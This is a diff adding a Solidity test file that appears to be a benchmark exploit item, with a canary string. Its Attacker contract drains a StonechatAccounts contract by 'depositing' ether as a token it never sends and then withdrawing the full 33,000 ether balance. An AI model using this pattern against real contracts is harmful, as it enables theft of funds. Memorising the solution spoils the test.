@@ -1,0 +1,117 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.19;
+
+import "./StonechatAccounts.sol";
+
+// assay-canary-9c2ff255-b06e-4e4a-a5b1-61d248b4bfb3
+
+interface Vm {
+    function warp(uint256 time) external;
+    function prank(address sender) external;
+    function deal(address to, uint256 amount) external;
+}
+
+/// Answers nothing, as some old tokens do.
+contract SilentToken {
+    mapping(address => uint256) public balanceOf;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function transfer(address to, uint256 amount) external {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external {
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+    }
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    address internal constant STUDIO = address(0x57D10);
+    address internal constant CLIENT = address(0xC11E47);
+    uint256 internal constant START = 1_643_200_000;
+
+    StonechatAccounts internal book;
+    SilentToken internal eur;
+    Attacker internal thief;
+
+    function setUp() public {
+        vm.warp(START);
+        book = new StonechatAccounts();
+        eur = new SilentToken();
+        book.list(address(eur));
+        eur.mint(CLIENT, 5_000e6);
+        vm.deal(CLIENT, 33_000 ether);
+        vm.prank(CLIENT);
+        book.depositEther{value: 33_000 ether}();
+        thief = new Attacker(book);
+    }
+
+    function test_Regular() public {
+        vm.prank(CLIENT);
+        book.deposit(1, 2_000e6);
+        vm.prank(STUDIO);
+        uint256 id = book.invoice(CLIENT, 1, 1_000e6, uint64(START + 1 days));
+        vm.warp(START + 3 days);
+        vm.prank(CLIENT);
+        book.settle(id);
+        require(book.balanceOf(STUDIO, 1) == 1_001e6, "two days late");
+        vm.prank(STUDIO);
+        book.withdraw(1, 1_001e6);
+        require(eur.balanceOf(STUDIO) == 1_001e6, "paid out");
+        vm.prank(CLIENT);
+        (bool ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.settle, (id)));
+        require(!ok, "settled twice");
+
+        vm.prank(CLIENT);
+        book.withdraw(0, 3 ether);
+        require(CLIENT.balance == 3 ether, "ether");
+        vm.prank(CLIENT);
+        (ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.deposit, (1, 9_000e6)));
+        require(!ok, "more than there is");
+        book.setOpen(1, false);
+        vm.prank(CLIENT);
+        (ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.deposit, (1, 1e6)));
+        require(!ok, "closed");
+    }
+
+    function exploit() public {
+        thief.run();
+    }
+
+    function test_Exploit() public {
+        uint256 before = address(thief).balance;
+        exploit();
+        require(address(thief).balance >= before + 33_000 ether, "nothing gained");
+    }
+
+    function target() public view returns (address) {
+        return address(book);
+    }
+
+    function attacker() public view returns (address) {
+        return address(thief);
+    }
+}
+
+/// Deposits ether as if it were a token.
+contract Attacker {
+    StonechatAccounts internal book;
+
+    constructor(StonechatAccounts book_) {
+        book = book_;
+    }
+
+    function run() external {
+        uint256 all = address(book).balance;
+        book.deposit(0, all);
+        book.withdraw(0, all);
+    }
+
+    receive() external payable {}
+}
